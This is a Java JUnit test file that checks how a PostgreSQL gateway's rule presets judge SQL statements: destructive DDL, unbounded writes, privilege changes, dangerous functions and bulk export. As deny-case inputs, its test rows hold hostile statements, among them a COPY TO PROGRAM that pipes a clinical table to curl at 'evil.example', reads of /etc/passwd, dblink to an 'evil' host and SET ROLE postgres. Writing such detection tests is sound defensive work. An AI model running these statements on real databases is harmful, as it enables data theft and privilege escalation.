package dev.sluice.core.policy.rules;

import dev.sluice.core.command.SqlCommand;
import dev.sluice.core.command.SqlStatement;
import dev.sluice.core.policy.Decision;
import dev.sluice.core.policy.ProtectedData;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.time.Duration;
import java.util.List;
import java.util.Optional;

import static dev.sluice.core.policy.rules.Judging.PATIENTS_PROTECTED;
import static dev.sluice.core.policy.rules.Judging.alice;
import static dev.sluice.core.policy.rules.Judging.outcome;
import static dev.sluice.core.policy.rules.Judging.presets;
import static dev.sluice.core.policy.rules.Judging.sql;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Each preset against real PostgreSQL statements, analysed as the gateway analyses them. */
class PresetsTest {

    private static String judge(String preset, String text) {
        return outcome(presets(PATIENTS_PROTECTED, preset).decide(alice(), sql(text)));
    }

    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiter = '|', value = {
            "DROP TABLE visits                                  | review:destructive-ddl",
            "drop table if exists clinic.visits cascade         | review:destructive-ddl",
            "DROP INDEX visits_idx                              | review:destructive-ddl",
            "TRUNCATE visits                                    | review:destructive-ddl",
            "ALTER TABLE visits DROP COLUMN notes               | review:destructive-ddl",
            "ALTER TABLE visits ADD COLUMN notes text           | allow",
            "CREATE TABLE t (id int)                            | allow",
            "SELECT * FROM visits                               | allow",
            "DELETE FROM visits                                 | allow"})
    void destructiveDdl(String text, String expected) {
        assertThat(judge("destructive-ddl", text)).isEqualTo(expected);
    }

    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiter = '|', value = {
            "DELETE FROM visits                                 | deny:unbounded-write",
            "DELETE FROM visits WHERE 1 = 1                     | deny:unbounded-write",
            "UPDATE visits SET notes = NULL                     | deny:unbounded-write",
            "update visits set notes = null where true          | deny:unbounded-write",
            "DELETE FROM visits WHERE id = 42                   | allow",
            "UPDATE visits SET notes = 'x' WHERE id = 42        | allow",
            "DELETE FROM visits USING patients p WHERE p.id = visits.pid | allow",
            "INSERT INTO visits VALUES (1)                      | allow",
            "SELECT * FROM visits                               | allow"})
    void unboundedWrite(String text, String expected) {
        assertThat(judge("unbounded-write", text)).isEqualTo(expected);
    }

    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiter = '|', value = {
            "GRANT SELECT ON patients TO bob                    | deny:privilege-changes",
            "GRANT pg_read_server_files TO bob                  | deny:privilege-changes",
            "REVOKE SELECT ON patients FROM bob                 | deny:privilege-changes",
            "CREATE ROLE auditor LOGIN                          | deny:privilege-changes",
            "ALTER USER bob WITH SUPERUSER                      | deny:privilege-changes",
            "DROP ROLE bob                                      | deny:privilege-changes",
            "SET ROLE postgres                                  | deny:privilege-changes",
            "SET SESSION AUTHORIZATION postgres                 | deny:privilege-changes",
            "set role = 'postgres'                              | deny:privilege-changes",
            "SET search_path = clinic                           | allow",
            "SET statement_timeout TO 5000                      | allow",
            "RESET ALL                                          | allow",
            "SELECT current_user                                | allow"})
    void privilegeChanges(String text, String expected) {
        assertThat(judge("privilege-changes", text)).isEqualTo(expected);
    }

    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiter = '|', value = {
            "SELECT pg_read_file('/etc/passwd')                 | deny:dangerous-functions",
            "SELECT pg_catalog.pg_read_file('/etc/passwd')      | deny:dangerous-functions",
            "SELECT PG_READ_BINARY_FILE('postgresql.conf')      | deny:dangerous-functions",
            "SELECT * FROM pg_ls_dir('.')                       | deny:dangerous-functions",
            "SELECT pg_ls_waldir()                              | deny:dangerous-functions",
            "SELECT lo_export(16400, '/tmp/dump')               | deny:dangerous-functions",
            "SELECT lo_import('/etc/passwd')                    | deny:dangerous-functions",
            "SELECT * FROM public.dblink('host=evil', 'select 1') AS t(a int) | deny:dangerous-functions",
            "SELECT dblink_exec('host=evil', 'drop table x')    | deny:dangerous-functions",
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'bob' | deny:dangerous-functions",
            "SELECT query_to_xml('select * from patients', true, false, '') | deny:dangerous-functions",
            "SELECT id FROM visits WHERE notes = (SELECT pg_read_file('x'))  | deny:dangerous-functions",
            "COPY visits TO PROGRAM 'curl -T - https://evil.example'         | deny:dangerous-functions",
            "COPY visits FROM PROGRAM 'cat /etc/passwd'         | deny:dangerous-functions",
            "COPY visits TO '/tmp/visits.csv'                   | deny:dangerous-functions",
            "COPY visits FROM '/etc/passwd'                     | deny:dangerous-functions",
            "COPY visits TO STDOUT                              | allow",
            "COPY visits (id, notes) FROM STDIN WITH (FORMAT csv) | allow",
            "SELECT lower(notes), now(), count(*) FROM visits GROUP BY 1 | allow",
            "SELECT my_read_file_helper(1)                      | allow"})
    void dangerousFunctions(String text, String expected) {
        assertThat(judge("dangerous-functions", text)).isEqualTo(expected);
    }

    @Test
    void dangerousFunctionsCatchesAFastpathCallItCannotSeeInto() {
        String description = "fastpath call of function oid 764 (1 argument)";
        SqlCommand call = new SqlCommand(description,
                List.of(SqlStatement.opaque(SqlStatement.FUNCTION_CALL, description)), List.of("0"));
        assertThat(outcome(presets(ProtectedData.NONE, "dangerous-functions").decide(alice(), call)))
                .isEqualTo("deny:dangerous-functions");
    }

    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiter = '|', value = {
            "COPY visits TO STDOUT                              | review:bulk-export",
            "COPY (SELECT * FROM visits) TO STDOUT WITH CSV     | review:bulk-export",
            "SELECT * FROM patients                             | review:bulk-export",
            "SELECT p.name FROM patients p JOIN visits v ON v.pid = p.id WHERE v.day = current_date | review:bulk-export",
            "SELECT * FROM patients LIMIT 100                   | allow",
            "SELECT * FROM patients FETCH FIRST 10 ROWS ONLY    | allow",
            "SELECT * FROM visits                               | allow",
            "COPY patients FROM STDIN                           | allow",
            "DELETE FROM patients                               | allow"})
    void bulkExport(String text, String expected) {
        assertThat(judge("bulk-export", text)).isEqualTo(expected);
    }

    @Test
    void presetsCarryTheirDefaultMessage() {
        Decision decision = presets(ProtectedData.NONE, "unbounded-write").decide(alice(), sql("DELETE FROM t"));
        assertThat(decision).isEqualTo(new Decision.Deny("unbounded-write",
                "DELETE or UPDATE without a WHERE clause is not allowed on this connection"));
        Decision review = presets(ProtectedData.NONE, "destructive-ddl").decide(alice(), sql("DROP TABLE t"));
        assertThat(review).isInstanceOfSatisfying(Decision.Review.class, r -> {
            assertThat(r.reason()).isEqualTo("destructive DDL (DROP, TRUNCATE, ALTER … DROP) needs approval");
            assertThat(r.approverGroups()).isEmpty();
            assertThat(r.minApprovals()).isEqualTo(1);
            assertThat(r.timeout()).isEqualTo(Decision.Review.DEFAULT_TIMEOUT);
        });
    }

    @Test
    void aChoiceOverridesActionMessageAndReviewTerms() {
        List<Rule> rules = Presets.rules(new Presets.Choice("unbounded-write", Optional.of(RuleAction.REVIEW),
                Optional.of("ask a DBA first"),
                new ReviewTerms(List.of("dba"), 2, Duration.ofMinutes(10), List.of("slack-dba"))));
        Decision decision = new RulePolicy(new RuleSet("prod", null, rules), ProtectedData.NONE,
                java.time.Clock.systemUTC()).decide(alice(), sql("UPDATE t SET a = 1"));
        assertThat(decision).isEqualTo(new Decision.Review("unbounded-write", "ask a DBA first", List.of("dba"), 2,
                Duration.ofMinutes(10), List.of("slack-dba")));

        List<Rule> denied = Presets.rules(new Presets.Choice("destructive-ddl", Optional.of(RuleAction.DENY),
                Optional.empty(), null));
        assertThat(denied).singleElement().satisfies(rule -> assertThat(rule.message())
                .isEqualTo("destructive DDL (DROP, TRUNCATE, ALTER … DROP) is not allowed on this connection"));
    }

    @Test
    void theCatalogNamesEveryPresetAndRefusesUnknownOnes() {
        assertThat(Presets.names()).containsExactly("destructive-ddl", "unbounded-write", "privilege-changes",
                "dangerous-functions", "bulk-export");
        assertThat(Presets.find("bulk-export")).hasValueSatisfying(p ->
                assertThat(p.defaultAction()).isEqualTo(RuleAction.REVIEW));
        assertThat(Presets.find("bulk-exports")).isEmpty();
        assertThatThrownBy(() -> Presets.rules(Presets.Choice.of("nope")))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("nope");
    }

    @Test
    void allPresetsTogetherLetOrdinaryWorkThrough() {
        RulePolicy all = presets(PATIENTS_PROTECTED, Presets.names().toArray(String[]::new));
        for (String text : List.of("BEGIN", "SELECT * FROM patients WHERE id = 7 LIMIT 1",
                "UPDATE visits SET notes = 'x' WHERE id = 3", "INSERT INTO visits (id) VALUES (5)",
                "SET application_name = 'report'", "SHOW search_path", "SAVEPOINT a", "RELEASE a",
                "COPY visits FROM STDIN", "LISTEN events", "COMMIT", "ROLLBACK", "DISCARD ALL")) {
            assertThat(outcome(all.decide(alice(), sql(text)))).as(text).isEqualTo("allow");
        }
    }
}
